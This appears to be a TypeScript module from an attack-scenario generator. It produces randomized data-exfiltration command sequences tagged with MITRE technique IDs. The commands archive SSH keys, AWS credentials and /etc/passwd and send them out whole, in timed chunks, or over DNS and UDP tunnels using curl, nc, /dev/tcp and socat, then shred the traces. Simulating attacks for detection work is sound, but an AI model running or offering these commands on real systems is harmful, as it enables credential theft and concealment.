import type { Draw } from '../draw.ts';
import type { Attack, Place } from '../scenario.ts';
import { link, look, maybe, quote, remote, root, workFolder, write } from '../ways.ts';

function gathered(draw: Draw, place: Place, path: string): readonly string[] {
  const what = draw.pick([
    '~/Documents',
    '~/Documents ~/.ssh',
    '~/projects ~/.aws',
    '/var/www/html',
    '/etc/passwd /etc/hosts /etc/ssh',
    '~/src',
    '/opt/*/*.conf /opt/*/config* ~/.config',
  ]);
  const as = (command: string): string => (draw.chance(0.3) ? root(place, command) : command);
  return draw.pick([
    [as(`tar czf ${path} ${what} 2>/dev/null`)],
    [`${as(`tar cf - ${what} 2>/dev/null`)} | gzip -9 > ${path}`],
    [
      `${as(`tar cf - ${what} 2>/dev/null`)} | gzip | openssl enc -aes-256-cbc -pbkdf2 -k ${draw.word()} -out ${path}`,
    ],
    [`zip -qr -P ${draw.word()} ${path}.zip ${what}`, `mv ${path}.zip ${path}`],
    [
      `python3 -c ${quote(`import tarfile,glob,os\nt=tarfile.open("${path}","w:gz")\nfor p in ${JSON.stringify(what.split(' '))}:\n  for f in glob.glob(os.path.expanduser(p)): t.add(f)\nt.close()`)}`,
    ],
    [
      `find ~ -maxdepth 3 \\( -name "*.csv" -o -name "*.txt" -o -name "*.pdf" -o -name "*.key" \\) -size -300k 2>/dev/null | head -40 | tar czf ${path} -T -`,
    ],
  ]);
}

/** What was gathered leaves in one piece. */
const whole: Attack = {
  name: 'data-sent-whole',
  family: 'data-sent',
  techniques: ['T1041', 'T1048.003', 'T1560.001', 'T1074.001', 'T1005'],
  as: 'either',
  needs: ['curl', 'wget', 'nc', 'socat', 'openssl', 'python3', 'zip', 'sudo'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const path = `${folder}/${draw.file(draw.pick(['.tar.gz', '.tgz', '.dat', '.bin', '.jpg', '']))}`;
    const { host, port } = remote(draw, place);
    const to = link(draw, place, '');
    const send = draw.pick([
      `curl -s -F "file=@${path}" ${to} > /dev/null`,
      `curl -s -T ${path} ${to}/ > /dev/null`,
      `curl -s -X POST --data-binary @${path} ${to} -o /dev/null`,
      `wget -q --post-file=${path} ${to} -O /dev/null`,
      `timeout 20 nc -q 2 ${host} ${port} < ${path} > /dev/null`,
      `timeout 20 bash -c 'cat ${path} > /dev/tcp/${host}/${port}'`,
      `timeout 20 socat -u FILE:${path} TCP:${host}:${port}`,
      `python3 -c ${quote(`import urllib.request as u; u.urlopen(u.Request("${to}", data=open("${path}","rb").read(), method="${draw.pick(['POST', 'PUT'])}"), timeout=10).read()`)}`,
      `base64 -w0 ${path} | curl -s -d @- ${to} > /dev/null`,
    ]);
    return [
      ...maybe(
        draw,
        0.5,
        draw.pick([
          'ls -la ~ ~/Documents',
          'du -sh ~/* 2>/dev/null',
          'find ~ -maxdepth 2 -type f | head -20',
        ]),
      ),
      `mkdir -p ${folder}`,
      ...gathered(draw, place, path),
      ...maybe(draw, 0.5, `ls -la ${path}`),
      send,
      ...maybe(draw, 0.6, draw.pick([`rm -f ${path}`, `shred -n 1 -u ${path}`, `rm -rf ${folder}`])),
      ...look(draw, draw.int(0, 1)),
    ];
  },
};

/** In pieces, with pauses, by several requests. */
const pieces: Attack = {
  name: 'data-sent-in-pieces',
  family: 'data-sent-in-pieces',
  techniques: ['T1030', 'T1041', 'T1560.001', 'T1132.001', 'T1029'],
  as: 'either',
  needs: ['curl', 'nc', 'xxd', 'split', 'python3', 'openssl', 'zip', 'sudo'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const path = `${folder}/${draw.word()}`;
    const { host, port } = remote(draw, place);
    const parts = `${folder}/${draw.pick(['x', 'p', draw.word()])}.`;
    const pause = draw.pick(['0.3', '1', '2', '$((RANDOM % 3))']);
    const one = draw.pick([
      `curl -s --data-binary @$f http://${host}:${port}/${draw.word()} > /dev/null`,
      `curl -s -H "Cookie: s=$(head -c 600 $f | base64 -w0)" http://${host}:${port}/ -o /dev/null`,
      `timeout 5 nc -q 1 ${host} ${port} < $f > /dev/null`,
      `(timeout 4 cat $f > /dev/tcp/${host}/${port})`,
      `xxd -p $f | head -c 1500 | curl -s -d @- http://${host}:${port}/${draw.word()} > /dev/null`,
    ]);
    const script = `${folder}/${draw.word()}.py`;
    const loop = draw.pick([
      [`split -n ${draw.int(4, 14)} ${path} ${parts}`, `for f in ${parts}*; do ${one}; sleep ${pause}; done`],
      [
        `split -n ${draw.int(4, 12)} -d ${path} ${parts}`,
        `ls ${parts}* | while read -r f; do ${one}; rm $f; sleep ${pause}; done`,
      ],
      [
        write(
          draw,
          script,
          `import time, urllib.request, base64\ndata = open("${path}", "rb").read()[:60000]\nstep = ${draw.int(2000, 9000)}\nfor i in range(0, len(data), step):\n  body = base64.b64encode(data[i:i + step])\n  urllib.request.urlopen("http://${host}:${port}/${draw.word()}?n=%d" % i, data=body, timeout=5).read()\n  time.sleep(${draw.pick(['0.5', '1', '1.5'])})`,
        ),
        `timeout 100 python3 ${script}`,
      ],
    ]);
    return [
      ...look(draw, draw.int(0, 2)),
      `mkdir -p ${folder}`,
      ...gathered(draw, place, path),
      ...loop,
      ...maybe(draw, 0.5, `rm -rf ${folder}`),
    ];
  },
};

/** By names and datagrams rather than by a connection. */
const names: Attack = {
  name: 'data-sent-by-datagram',
  family: 'data-sent-by-datagram',
  techniques: ['T1048.003', 'T1071.004', 'T1572', 'T1005'],
  as: 'either',
  needs: ['nc', 'python3', 'xxd', 'dig', 'socat'],
  lines: (draw, place) => {
    const { host } = remote(draw, place);
    const domain = `${draw.word()}.${draw.word()}.${draw.pick(['com', 'net', 'io', 'org'])}`;
    const path = `/tmp/${draw.file('.txt')}`;
    const source = draw.pick([
      '/etc/passwd',
      '~/.ssh/id_*',
      '~/.aws/credentials',
      '~/.bash_history',
      '/etc/hosts /etc/passwd',
    ]);
    const port = draw.pick([53, 53, 123, 514, 5353]);
    const ways = [
      `for c in $(cat ${path} | xxd -p -c ${draw.int(16, 28)} | head -${draw.int(10, 25)}); do timeout 0.3 dig +tries=1 +time=1 @${host} $c.${domain} > /dev/null 2>&1; done`,
      `for c in $(xxd -p -c 24 ${path} | head -${draw.int(8, 20)}); do echo $c | nc -u -w 1 -q 0 ${host} ${port}; done`,
      `for c in $(base64 -w 60 ${path} | tr '+/' '-_' | head -${draw.int(8, 20)}); do (echo $c > /dev/udp/${host}/${port}); sleep 0.${draw.int(1, 9)}; done`,
      `python3 -c ${quote(`import socket,struct,time\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nd=open("${path}","rb").read().hex()[:3000]\nfor i in range(0,len(d),60):\n  q=b"".join(bytes([len(p)])+p.encode() for p in [d[i:i+60]]+"${domain}".split("."))\n  s.sendto(struct.pack(">6H",i,256,1,0,0,0)+q+b"\\0"+struct.pack(">2H",16,1),("${host}",53)); time.sleep(0.${draw.int(1, 6)})`)}`,
      `timeout 10 socat -u FILE:${path} UDP:${host}:${port}`,
    ];
    return [
      ...look(draw, draw.int(1, 3)),
      draw.pick([
        `cat ${source} > ${path} 2>/dev/null`,
        `(hostname; id; cat ${source}) > ${path} 2>/dev/null`,
      ]),
      draw.pick(ways),
      ...maybe(draw, 0.6, `rm -f ${path}`),
      ...look(draw, draw.int(0, 2)),
    ];
  },
};

export const EXFILTRATION: readonly Attack[] = [whole, pieces, names];
